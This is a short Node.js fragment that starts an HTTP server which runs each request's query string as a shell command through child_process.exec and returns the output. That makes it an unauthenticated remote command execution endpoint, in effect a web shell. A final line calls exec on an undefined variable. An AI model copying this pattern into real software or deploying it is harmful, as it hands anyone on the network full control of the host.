const cp = require("child_process");
http.createServer((req, res) => cp.exec(url.parse(req.url).query, (e, o) => res.end(o)));
cp.exec(cmd);
